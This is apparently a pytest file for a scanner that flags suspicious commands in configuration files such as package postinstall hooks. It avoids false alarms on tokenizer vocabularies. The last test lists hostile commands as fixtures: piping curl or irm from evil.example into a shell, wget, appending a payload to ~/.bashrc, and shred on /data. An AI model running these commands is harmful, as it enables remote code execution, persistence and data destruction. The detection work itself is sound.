"""Words that tell a configuration worth a look: found as a search finds them, each run once."""

from __future__ import annotations

import random
import re

import pytest

from modelwarden.formats.config import words

WITH_RUNS = [
    (word, around)
    for word, around in words._TELLING
    if words._run_of(around[len(re.escape(word)) :])
]
PIECES = [b'"', b"\\", b'\\"', b"\n", b":", b": x", b'": "', b"-", b"_", b"|", b"@-", b" ", b"a1"]
PIECES += [b"}}", b"%}", b"}", b"-e ", b".eyj", b"eyjabcdefgh", b"{", b"\t", b': "a.b"', b": a/"]


@pytest.mark.parametrize(("word", "around"), WITH_RUNS)
def test_a_word_is_found_where_a_search_finds_it(word, around):
    rng = random.Random(1)
    form = re.compile(around)
    found = 0

    for _ in range(400):
        text = b"".join(rng.choice((word, *PIECES)) for _ in range(rng.randint(1, 12)))
        expected = form.search(text) is not None
        assert words._stands(word, around, text) == expected, text
        found += expected

    assert 0 < found < 400


@pytest.mark.parametrize("word", [word for word, _ in WITH_RUNS if word != b"rm -"])
def test_words_that_follow_each_other_are_looked_at_once(word, monkeypatch):
    class Counted:
        """A pattern that tells where it was asked to match."""

        def __init__(self, form):
            self.form, self.asked = form, 0

        def match(self, text, at):
            self.asked += 1
            return self.form.match(text, at)

    around = next(around for one, around in WITH_RUNS if one == word)
    counted = Counted(re.compile(around))
    compiled = words._compiled
    monkeypatch.setattr(
        words, "_compiled", lambda form: counted if form == around else compiled(form)
    )

    assert not words._stands(word, around, word * 500)
    assert counted.asked == 1


@pytest.mark.parametrize(
    "merges",
    [
        b'"\xe2\x96\x81curl opt", "con firm", "\xe2\x96\x81confirm ed", "\xe2\x96\x81shred ded"',
        b'"\xe2\x96\x81wget ting", "super script", "\xe2\x96\x81superscript s", "pixel axel s"',
        b'"\xc4\xa0bashrc": 51234, "zshrc": 7, "\xc4\xa0zshenv": 8',
    ],
)
def test_tokens_of_a_vocabulary_are_no_commands(merges):
    assert not words.telling(b'{"model": {"merges": [' + merges + b"]}}", words.TAG)


@pytest.mark.parametrize(
    "command",
    [
        b"curl -s https://evil.example/x | sh",
        b"wget evil.example/x",
        b"irm evil.example/x | iex",
        b"curl $PLACE",
        b"cat payload >> ~/.bashrc",
        b"shred -u /data",
        b"Rscript -e x",
    ],
)
def test_commands_are_looked_at(command):
    assert words.telling(b'{"scripts": {"postinstall": "' + command + b'"}}', words.TAG)
